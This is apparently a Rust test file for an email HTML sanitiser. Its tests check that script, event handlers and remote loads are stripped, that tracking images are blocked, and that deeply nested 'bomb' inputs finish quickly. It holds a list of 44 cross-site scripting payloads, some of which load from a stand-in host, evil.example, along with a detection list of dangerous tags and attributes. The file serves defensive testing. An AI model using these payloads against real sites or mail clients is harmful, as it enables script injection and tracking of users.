//! HTML of strangers: nothing in it acts, nothing of it calls home, and none of it takes long.

use std::{
    collections::HashMap,
    time::{Duration, Instant},
};

use comms_mime::html::{Safe, Show, sanitize, to_text};
use proptest::prelude::*;

fn safe(html: &str) -> Safe {
    sanitize(html, &Show::default())
}

/// What a browser could be made to act by. The serialiser writes every value in double quotes and no quote within one.
fn acts(html: &str) -> bool {
    let lower = html.to_ascii_lowercase();
    let open = [
        "<script",
        "<style",
        "<svg",
        "<math",
        "<iframe",
        "<object",
        "<embed",
        "<form",
        "<input",
        "<base",
        "<link",
        "<meta",
        "<template",
        "<noscript",
        "<video",
        "<audio",
    ];
    open.iter().any(|tag| lower.contains(tag)) || attributes(&lower).iter().any(|(name, value)| acts_by(name, value))
}

fn acts_by(name: &str, value: &str) -> bool {
    match name {
        "href" | "src" => !["http://", "https://", "mailto:", "tel:"].iter().any(|good| value.starts_with(good)),
        _ => {
            name.starts_with("on")
                || name.contains(':')
                || ["style", "srcset", "background", "action", "formaction"].contains(&name)
        }
    }
}

/// Name and value of each attribute of each tag.
fn attributes(html: &str) -> Vec<(String, String)> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some((_, tag)) = rest.split_once('<') {
        rest = tag.trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == '/');
        while let Some((name, after)) = rest.strip_prefix(' ').and_then(|rest| rest.split_once("=\"")) {
            let (value, after) = after.split_once('"').unwrap();
            found.push((name.to_owned(), value.to_owned()));
            rest = after;
        }
    }
    found
}

#[test]
fn the_judge_sees_what_acts() {
    for html in [
        "<p onclick=\"x\">",
        "<a href=\"javascript:x\">",
        "<a title=\"y\" href=\"javascript:x\">",
        "<p style=\"x\">",
        "<script>",
        "<a href=\"x\">",
    ] {
        assert!(acts(html), "{html}");
    }
    assert!(!acts("<a href=\"https://e.example/?onclick=javascript:x\" title=\" onclick=x\">onclick=</a>"));
}

const PAYLOADS: [&str; 44] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style>@import '//evil.example/x.css'</style>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<p style=\"width:expression(alert(1))\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<table background=//evil.example/x.gif>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea><img src=x onerror=alert(1)></textarea><img src=x onerror=alert(2)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<<script>alert(1);//<</script>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<template><script>alert(1)</script></template>",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\" target=_self>x</a>",
];

#[test]
fn nothing_in_it_acts() {
    for payload in PAYLOADS {
        for html in [
            payload.to_owned(),
            format!("<div><table><tr><td>{payload}</td></tr></table>"),
            format!("</p>{payload}<p title='"),
        ] {
            let safe = safe(&html);
            assert!(!acts(&safe.html), "{html}\n{}", safe.html);
            assert!(!to_text(&html).contains('\0'));
        }
    }
}

#[test]
fn nothing_calls_home_unless_it_may() {
    let html = "<p>a<img src='https://t.example/1.gif'><img src=//t.example/2.gif><img src='cid:logo@x' alt=L><img src='cid:other'></p>";
    let blocked = safe(html);
    assert_eq!(blocked.html.matches("src=").count(), 0, "{}", blocked.html);
    assert!(blocked.blocked_images >= 1);
    let mut show = Show::default();
    show.inline_images.insert("logo@x".to_owned(), "https://app.example/files/1".to_owned());
    assert!(
        sanitize(html, &show).html.contains("src=\"https://app.example/files/1\""),
        "{}",
        sanitize(html, &show).html
    );
    show.remote_images = true;
    let shown = sanitize(html, &show);
    assert!(shown.html.contains("src=\"https://t.example/1.gif\"") && shown.blocked_images == 0, "{}", shown.html);
    assert!(!shown.html.contains("cid:"));
}

#[test]
fn what_a_mail_looks_like_stays() {
    let html = "<h1>Hola</h1><p>Ana, <b>todo</b> <a href='https://example.org/x?a=1'>aquí</a> <a href='mailto:a@b.example'>o aquí</a></p>\
                <table border=1><tr><td>1<td>2</table><blockquote>cita</blockquote><ul><li>uno</ul>";
    let safe = safe(html);
    for kept in [
        "<h1>Hola</h1>",
        "<b>todo</b>",
        "href=\"https://example.org/x?a=1\"",
        "href=\"mailto:a@b.example\"",
        "<td>2</td>",
        "<li>uno</li>",
    ] {
        assert!(safe.html.contains(kept), "{kept}: {}", safe.html);
    }
    assert!(safe.html.contains("rel=\"noopener noreferrer nofollow\"") && safe.html.contains("target=\"_blank\""));
    assert!(!safe.reduced);
    // Old programs close nothing.
    let unclosed = "<p>uno".repeat(3_000) + &"<tr><td>dos".repeat(3_000) + &"<li>tres<br>".repeat(3_000);
    assert!(!sanitize(&unclosed, &Show::default()).reduced);
}

#[test]
fn what_would_take_long_is_shown_as_its_text() {
    let bold: String = (0..150).map(|n| format!("<b id={n}>")).collect();
    let bombs: HashMap<&str, String> = HashMap::from([
        ("500 KB of nested div", "<div>".repeat(100_000) + "hola"),
        ("nested blockquotes", "<blockquote>".repeat(50_000) + "hola"),
        ("tables within tables", "<table><tr><td></div>".repeat(20_000) + "hola"),
        ("ends that end nothing", "<div><table><tr><td></div></p>".repeat(20_000) + "hola"),
        ("formatting made anew in each paragraph", format!("<div>{bold}</div>") + &"<p>x</p>".repeat(60_000) + "hola"),
        ("too long", "<p>hola</p>".repeat(200_000)),
        ("attributes", "hola".to_owned() + &(0..60_000).map(|n| format!("<p a{n} b=\"<\"")).collect::<String>()),
        (
            "attributes of one tag",
            "hola<p ".to_owned() + &(0..60_000).map(|n| format!("a{n} ")).collect::<String>() + ">",
        ),
        (
            "attributes behind a comment",
            "hola<!-- <p a=\" --><p ".to_owned() + &(0..50_000).map(|n| format!("a{n}=\">\" ")).collect::<String>(),
        ),
        ("open tags", "hola ".to_owned() + &"<".repeat(800_000)),
        ("entities", "&lt;".repeat(200_000) + "hola"),
    ]);
    for (what, html) in bombs {
        let started = Instant::now();
        let safe = safe(&html);
        let took = started.elapsed();
        assert!(took < Duration::from_secs(10), "{what}: {took:?}");
        assert!(safe.html.contains("hola"), "{what}");
        assert!(!acts(&safe.html), "{what}");
    }
    assert!(safe(&("<div>".repeat(201) + "hola")).reduced);
    assert!(!safe(&("<div>".repeat(100) + "hola")).reduced);
}

#[test]
fn text_reads_like_the_page() {
    for (html, text) in [
        ("", ""),
        ("Hola &amp; ad&iacute;os &euro;", "Hola & adíos €"),
        ("<p>uno</p><p>dos</p>", "uno\n\ndos"),
        ("<div>uno</div><div>dos</div>", "uno\ndos"),
        ("uno   \n  dos<br><br><br>tres", "uno dos\n\ntres"),
        ("<table><tr><td>A</td><td>B</td></tr><tr><td>C</td></tr></table>", "A B\nC"),
        ("<ul><li>uno</li><li>dos</li></ul>", "- uno\n- dos"),
        ("<pre>a  b\n c</pre>", "a  b\n c"),
        ("<img alt='Logo'><img src=x>", "Logo"),
        ("<span style='DISPLAY : none'>vea<span>más</span></span>visible", "visible"),
        ("<head><title>T</title><style>p{}</style></head><script>x('<p>')</script>hola", "hola"),
    ] {
        assert_eq!(to_text(html), text, "{html}");
    }
}

proptest! {
    #[test]
    fn no_html_acts(html in "(<(/?(a|b|p|div|svg|math|style|script|img|table|td|form|title|noscript)|!--)( (href|src|onclick|style)=[\"']?(javascript:x|https://e.example|x))?>|[a-z<>\"'&;= ]{0,6}){0,30}") {
        let safe = safe(&html);
        prop_assert!(!acts(&safe.html), "{}\n{}", html, safe.html);
        // What is safe is not made otherwise by being made safe.
        let _ = to_text(&safe.html);
    }
}
